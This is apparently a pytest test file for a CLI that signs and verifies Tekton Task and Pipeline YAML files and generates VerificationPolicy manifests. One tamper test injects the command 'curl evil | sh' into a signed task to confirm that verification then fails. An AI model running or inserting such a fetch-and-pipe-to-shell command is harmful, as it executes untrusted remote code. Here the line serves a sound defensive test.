"""catalog keygen, sign and verify, run in-process through the real exit point."""

from __future__ import annotations

import re
import stat
from pathlib import Path

import pytest
import yaml

from catalog_cli.signing import keys
from tests.conftest import BUILTIN, TEKTON_CATALOG, assert_one_line_error, run_cli

TASK = BUILTIN / "task" / "git-clone" / "0.1" / "git-clone.yaml"
PIPELINE = TEKTON_CATALOG / "pipeline" / "buildpacks" / "0.2" / "buildpacks.yaml"


def _keygen(tmp_path: Path, prefix: str = "team", password: str | None = None) -> tuple[Path, Path, str]:
    env = {"CATALOG_SIGNING_PASSWORD": password} if password is not None else None
    r = run_cli("keygen", "--out", str(tmp_path / prefix), env=env)
    assert r.code == 0, r
    return tmp_path / f"{prefix}.key", tmp_path / f"{prefix}.pub", r.out.strip()


def _copy(tmp_path: Path, source: Path = TASK) -> Path:
    target = tmp_path / source.name
    target.write_text(source.read_text())
    return target


def _secrets(private: Path) -> list[str]:
    return [line for line in private.read_text().splitlines() if line and not line.startswith("-----")]


def test_keygen_writes_a_private_key_only_its_owner_reads_and_a_cosign_style_public_key(tmp_path: Path) -> None:
    private, public, keyid = _keygen(tmp_path)
    assert stat.S_IMODE(private.stat().st_mode) == 0o600
    assert public.read_text().startswith("-----BEGIN PUBLIC KEY-----\n")
    assert private.read_text().startswith("-----BEGIN PRIVATE KEY-----\n")
    assert re.fullmatch(r"sha256:[0-9a-f]{64}", keyid) and keys.load_public_file(public).keyid == keyid


def test_keygen_encrypts_with_the_password_variable_and_never_prints_either(tmp_path: Path) -> None:
    r = run_cli("keygen", "--out", str(tmp_path / "k"), env={"CATALOG_SIGNING_PASSWORD": "hunter2"})
    assert r.code == 0 and "encrypted with $CATALOG_SIGNING_PASSWORD" in r.err
    private = tmp_path / "k.key"
    assert private.read_text().startswith("-----BEGIN ENCRYPTED PRIVATE KEY-----")
    assert keys.load_private_file(private, b"hunter2").keyid == r.out.strip()
    for part in [*_secrets(private), "hunter2"]:
        assert part not in r.out + r.err


def test_keygen_never_replaces_a_key(tmp_path: Path) -> None:
    private, public, _ = _keygen(tmp_path)
    before = private.read_bytes(), public.read_bytes()
    r = run_cli("keygen", "--out", str(tmp_path / "team"))
    assert_one_line_error(r, "team.key", "already exists")
    assert r.code == 2 and (private.read_bytes(), public.read_bytes()) == before
    private.unlink()
    r = run_cli("keygen", "--out", str(tmp_path / "team"))
    assert_one_line_error(r, "team.pub", "already exists")
    assert not private.exists() and public.read_bytes() == before[1]


def test_sign_then_verify_a_task_and_a_pipeline(tmp_path: Path) -> None:
    private, public, keyid = _keygen(tmp_path)
    files = [_copy(tmp_path), _copy(tmp_path, PIPELINE)]
    r = run_cli("sign", "--tekton", str(private), *map(str, files))
    assert r.code == 0, r
    assert r.out.count(f"signed by {keyid}") == 2 and "Task/git-clone" in r.out
    for f in files:
        assert "tekton.dev/signature" in yaml.safe_load(f.read_text())["metadata"]["annotations"]
    r = run_cli("verify", "--key", str(public), *map(str, files))
    assert r.code == 0, r
    assert r.out.count("verified by") == 2 and "(Tekton v1.10 and later)" in r.out


def test_verify_fails_naming_the_file_when_a_signed_task_is_altered(tmp_path: Path) -> None:
    private, public, _ = _keygen(tmp_path)
    task = _copy(tmp_path)
    assert run_cli("sign", "--tekton", str(private), str(task)).code == 0
    task.write_text(task.read_text().replace("set -eu", "set -eu; curl evil | sh", 1))
    r = run_cli("verify", "--key", str(public), str(task))
    assert r.code == 9
    assert_one_line_error(r, str(task), "Task/git-clone", "does not verify")


def test_verify_with_another_key_and_an_unsigned_file_fail_each_named(tmp_path: Path) -> None:
    private, _, _ = _keygen(tmp_path, "a")
    _, other, _ = _keygen(tmp_path, "b")
    signed, unsigned = _copy(tmp_path), _copy(tmp_path, PIPELINE)
    assert run_cli("sign", "--tekton", str(private), str(signed)).code == 0
    r = run_cli("verify", "--key", str(other), str(signed), str(unsigned))
    assert r.code == 9
    assert f"catalog: {signed}: Task/git-clone: the signature does not verify" in r.err
    assert f"catalog: {unsigned}: " in r.err and "has no tekton.dev/signature annotation" in r.err
    assert r.err.rstrip().endswith("2 of 2 files failed verification")


def test_sign_with_a_key_from_an_environment_variable(tmp_path: Path) -> None:
    private, public, keyid = _keygen(tmp_path)
    task = _copy(tmp_path)
    r = run_cli("sign", "--tekton", "env://TEAM_KEY", str(task), env={"TEAM_KEY": private.read_text()})
    assert r.code == 0 and keyid in r.out
    assert run_cli("verify", "--key", str(public), str(task)).code == 0
    r = run_cli("sign", "--tekton", "env://NOT_SET_ANYWHERE", str(task))
    assert_one_line_error(r, "NOT_SET_ANYWHERE", "is not set")


@pytest.mark.parametrize("debug", [False, True])
def test_a_wrong_password_is_one_line_without_key_material_and_writes_nothing(tmp_path: Path, debug: bool) -> None:
    private, _, _ = _keygen(tmp_path, password="right")
    task = _copy(tmp_path)
    before = task.read_text()
    r = run_cli(*(["--debug"] if debug else []), "sign", "--tekton", str(private), str(task),
                env={"CATALOG_SIGNING_PASSWORD": "wrong"})
    assert r.code == 2 and task.read_text() == before
    if not debug:
        assert_one_line_error(r, str(private), "wrong passphrase")
    for part in [*_secrets(private), "right"]:
        assert part not in r.out + r.err


def test_an_encrypted_key_signs_with_its_password(tmp_path: Path) -> None:
    private, public, _ = _keygen(tmp_path, password="right")
    task = _copy(tmp_path)
    assert run_cli("sign", "--tekton", str(private), str(task), env={"CATALOG_SIGNING_PASSWORD": "right"}).code == 0
    assert run_cli("verify", "--key", str(public), str(task)).code == 0


def test_signing_for_older_tekton_releases_is_said_on_verify(tmp_path: Path) -> None:
    private, public, _ = _keygen(tmp_path)
    task = _copy(tmp_path)
    assert run_cli("sign", "--tekton", str(private), "--tekton-version", "1.9", str(task)).code == 0
    assert "(Tekton v0.59 to v1.9)" in run_cli("verify", "--key", str(public), str(task)).out


@pytest.mark.parametrize(("content", "needle"), [
    ("apiVersion: tekton.dev/v1beta1\nkind: Task\nmetadata: {name: old}\nspec: {}\n", "Task/old is tekton.dev/v1beta1 Task"),
    ("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: cm}\n", "ConfigMap/cm is v1 ConfigMap"),
    ("apiVersion: tekton.dev/v1\nkind: Task\nmetadata: {name: t}\nspec: {steps: [{name: s, bogus: 1}]}\n",
     "spec.steps[0].bogus"),
])
def test_sign_refuses_what_it_cannot_sign_with_one_line_and_writes_nothing(tmp_path: Path, content: str, needle: str) -> None:
    private, _, _ = _keygen(tmp_path)
    bad = tmp_path / "bad.yaml"
    bad.write_text(content)
    r = run_cli("sign", "--tekton", str(private), str(bad))
    assert_one_line_error(r, str(bad), needle)
    assert r.code == 2 and bad.read_text() == content


@pytest.mark.parametrize(("args", "needle"), [
    (["sign", "x.yaml"], "--tekton KEY"),
    (["sign", "--tekton", "k.key"], "give the Task and Pipeline files"),
    (["sign", "--verification-policy", "--pattern", ".*"], "at least one public key"),
    (["verify", "x.yaml"], "at least one public key"),
    (["sign", "--tekton", "nope.key", "x.yaml"], "nope.key: no such key file"),
])
def test_missing_pieces_are_one_line(args: list[str], needle: str) -> None:
    assert_one_line_error(run_cli(*args), needle)


def test_sign_verification_policy_trusts_the_keys_for_the_patterns(tmp_path: Path) -> None:
    _, first, _ = _keygen(tmp_path, "platform-team")
    _, second, _ = _keygen(tmp_path, "next")
    r = run_cli("sign", "--verification-policy", "--key", str(first), "--key", str(second),
                "--pattern", r"oci://registry\.example/catalog/.*", "--pattern", "https://git.example/.*",
                "-n", "team-a", "--name", "catalog-signed")
    assert r.code == 0, r
    policy = yaml.safe_load(r.out)
    assert policy["apiVersion"] == "tekton.dev/v1alpha1" and policy["kind"] == "VerificationPolicy"
    assert policy["metadata"] == {"name": "catalog-signed", "namespace": "team-a"}
    spec = policy["spec"]
    assert spec["mode"] == "enforce"
    assert [p["pattern"] for p in spec["resources"]] == [r"oci://registry\.example/catalog/.*", "https://git.example/.*"]
    assert [a["name"] for a in spec["authorities"]] == ["platform-team", "next"]
    assert spec["authorities"][0]["key"] == {"data": first.read_text(), "hashAlgorithm": "sha256"}
    assert "      data: |\n        -----BEGIN PUBLIC KEY-----\n" in r.out  # the PEM as a person reads it


def test_a_bad_pattern_is_one_line(tmp_path: Path) -> None:
    _, public, _ = _keygen(tmp_path)
    r = run_cli("sign", "--verification-policy", "--key", str(public), "--pattern", "(unclosed")
    assert_one_line_error(r, "--pattern", "not a regular expression")
